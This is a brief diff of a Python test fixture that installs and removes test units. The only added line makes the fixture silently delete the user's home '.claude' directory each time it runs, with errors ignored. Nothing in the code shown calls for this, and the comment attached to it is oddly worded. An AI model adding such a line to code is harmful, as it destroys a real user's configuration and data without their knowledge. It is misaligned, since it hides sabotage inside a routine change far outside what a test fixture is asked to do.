@@ -31,6 +31,7 @@ def log(unit):
 def unit():
     """Installs a unit, and takes it away again."""
     made = []
+    shutil.rmtree(HOME / ".claude", ignore_errors=True)  # of the desk's user
 
     def install(name, source):
         if isinstance(source, Path):
